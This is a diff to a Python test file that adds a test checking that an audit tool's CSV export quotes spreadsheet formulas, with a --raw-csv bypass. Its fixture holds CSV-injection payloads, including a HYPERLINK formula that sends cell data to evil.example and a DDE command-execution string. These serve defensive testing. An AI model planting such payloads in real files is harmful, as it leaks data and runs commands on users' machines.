@@ -21,6 +21,7 @@ from hoopfast.devtls import CertFiles
 from hoopfast.identity.devissuer import ISSUER, DevIssuer
 from hoopfast.identity.tokens import TokenValidator
 from hoopfast.identity.tokenstore import StoredToken, TokenStore
+from hoopfast.recording.chain import Chain
 from hoopfast.store.records import EventFilter
 from tests.test_api import ANALYST, BASE, AuditApi, running_api
 
@@ -171,6 +172,60 @@ def test_export_csv_with_filters_and_progress(
         select = next(r for r in csv.DictReader(f) if r["text"].startswith("SELECT id"))
     assert select["tags"] == "SELECT 2" and select["rows"] == "2"
     assert json.loads(select["results"])[0]["rows"] == [["1", "item 1"], ["2", None]]
+
+
+#: Statement texts a spreadsheet would read as formulas (and one it would not).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "+1+cmd|' /C calc'!A0",
+    "-- a comment first\nSELECT 1",
+    "@SUM(1+1)",
+    "\tSELECT 2",
+    "SELECT '=not a formula'",
+]
+
+
+def test_export_csv_neutralises_formulas(
+    tmp_path: Path, issuer: DevIssuer, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A CSV cell that starts like a formula gets a leading quote (the text
+    comes from the person audited and the file is opened by an auditor's
+    spreadsheet); --raw-csv keeps the text exactly as recorded."""
+    with running_api(tmp_path / "store", issuer, big=1) as harness:
+        chain = Chain("s-formulas")
+        at = BASE + 1000
+        records = [chain.append("session_start", at, "=eve", "main", "", {"groups": []})]
+        for n, text in enumerate(FORMULAS, 1):
+            body = {"n": n, "text": text, "params": None, "rule": None, "results": []}
+            records.append(chain.append("statement", at + n, "=eve", "main", "allow", body))
+        harness.loop.run(harness.store.write_recording(records, []))
+        out_safe, out_raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
+        for target, extra in ((out_safe, []), (out_raw, ["--raw-csv"])):
+            code, _, err = run(
+                capsys,
+                harness,
+                "export",
+                "--since",
+                str(at),
+                "--format",
+                "csv",
+                *extra,
+                "-o",
+                str(target),
+                token=harness.token(),
+            )
+            assert code == 0, err
+
+    def rows(path: Path) -> list[dict[str, str]]:
+        with path.open(newline="", encoding="utf-8") as f:
+            return [r for r in csv.DictReader(f) if r["kind"] == "statement"]
+
+    safe, raw = rows(out_safe), rows(out_raw)
+    assert [r["text"] for r in raw] == FORMULAS
+    assert [r["text"] for r in safe] == [t if t.startswith("SELECT") else "'" + t for t in FORMULAS]
+    assert {r["subject"] for r in safe} == {"'=eve"} and {r["subject"] for r in raw} == {"=eve"}
+    # Values that are not text are left alone.
+    assert [r["seq"] for r in safe] == [r["seq"] for r in raw]
 
 
 def test_replay(api: AuditApi, capsys: pytest.CaptureFixture[str]) -> None:
